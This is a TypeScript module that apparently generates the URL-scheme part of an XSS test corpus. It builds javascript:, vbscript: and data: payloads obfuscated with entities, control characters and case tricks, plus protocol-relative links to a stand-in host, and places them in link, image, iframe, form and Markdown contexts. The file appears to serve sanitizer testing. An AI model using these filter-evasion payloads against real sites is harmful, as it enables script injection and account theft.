/**
 * The `url-scheme` family of the XSS corpus: script-running URLs (javascript:, vbscript:, data:)
 * with case, whitespace, control-character and entity obfuscation, and protocol-relative hosts,
 * each placed in the attributes and Markdown constructs that take a URL.
 */
import { b64, type Fill, type Template } from './xss-template.js';

const decimal = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
const decimalBare = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)}`).join('');
const hex = (text: string) =>
  [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join('');
const padded = (text: string) =>
  [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')};`).join('');

/** A URL built from the fill: each runs the detector call when followed or loaded. */
type Url = (fill: Fill) => string;

const SCHEMES: Url[] = [
  ({ call }) => `javascript:${call}`,
  ({ call }) => `JaVaScRiPt:${call}`,
  ({ call }) => `JAVASCRIPT:${call}`,
  ({ call }) => ` javascript:${call}`,
  ({ call }) => `\tjavascript:${call}`,
  ({ call }) => `java\tscript:${call}`,
  ({ call }) => `java\nscript:${call}`,
  ({ call }) => `java\rscript:${call}`,
  ({ call }) => `\u0001javascript:${call}`,
  ({ call }) => `java&#09;script:${call}`,
  ({ call }) => `java&#x09;script:${call}`,
  ({ call }) => `java&#10;script:${call}`,
  ({ call }) => `jav&#x0D;ascript:${call}`,
  ({ call }) => `jav&Tab;ascript:${call}`,
  ({ call }) => `&NewLine;javascript:${call}`,
  ({ call }) => ` &#14;  javascript:${call}`,
  ({ call }) => `javascript&colon;${call}`,
  ({ call }) => `javascript&#58;${call}`,
  ({ call }) => `&#106;avascript:${call}`,
  ({ call }) => `&#x6A;avascript:${call}`,
  ({ call }) => decimal(`javascript:${call}`),
  ({ call }) => decimalBare(`javascript:${call}`),
  ({ call }) => hex(`javascript:${call}`),
  ({ call }) => padded(`javascript:${call}`),
  ({ call }) => `javascript://%0a${call}`,
  ({ call }) =>
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
  ({ call }) => `livescript:${call}`,
  ({ call }) => `mocha:${call}`,
  ({ n }) => `vbscript:msgbox(${n})`,
  ({ n }) => `VBSCRIPT:msgbox(${n})`,
  ({ call }) => `data:text/html,<script>${call}</script>`,
  ({ call }) => `DATA:text/html,<svg onload=${call}>`,
  ({ call }) => `data:text/html;base64,${b64(`<script>${call}</script>`)}`,
  ({ call }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  ({ call }) =>
    `data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`)}`,
  ({ call }) => `data:application/javascript,${call}`,
  ({ n }) => `//xss.example/${n}`,
  ({ n }) => `/\\xss.example/${n}`,
  ({ n }) => `\\/xss.example/${n}`,
  ({ n }) => `/\t/xss.example/${n}`,
  ({ call }) => `\u0458avascript:${call}`,
];

const attribute = (url: string) => url.replaceAll('"', '&quot;');

/**
 * Where a URL goes: every scheme in a link; a sample of them (every `sample`-th, shifted by the
 * context's place) in every other URL attribute and Markdown construct.
 */
const CONTEXTS: { sample: number; wrap: (url: string) => string }[] = [
  { sample: 1, wrap: (url) => `<a href="${attribute(url)}">x</a>` },
  { sample: 3, wrap: (url) => `[x](<${url}>)` },
  { sample: 8, wrap: (url) => `<img src="${attribute(url)}">` },
  { sample: 10, wrap: (url) => `![x](<${url}>)` },
  { sample: 10, wrap: (url) => `<iframe src="${attribute(url)}"></iframe>` },
  { sample: 12, wrap: (url) => `<form action="${attribute(url)}"><button>x</button></form>` },
  { sample: 12, wrap: (url) => `<object data="${attribute(url)}"></object>` },
  { sample: 12, wrap: (url) => `<svg><a xlink:href="${attribute(url)}"><text>x</text></a></svg>` },
  { sample: 14, wrap: (url) => `<math href="${attribute(url)}">x</math>` },
  { sample: 14, wrap: (url) => `<embed src="${attribute(url)}">` },
  { sample: 14, wrap: (url) => `<img srcset="${attribute(url)} 1x">` },
  { sample: 14, wrap: (url) => `<a href='${url.replaceAll("'", '&#39;')}'>single</a>` },
];

export const URL_VECTORS: Template[] = CONTEXTS.flatMap(({ sample, wrap }, c) =>
  SCHEMES.filter((_scheme, s) => (s + c) % sample === 0).map(
    (scheme) => (fill: Fill) => wrap(scheme(fill)),
  ),
);
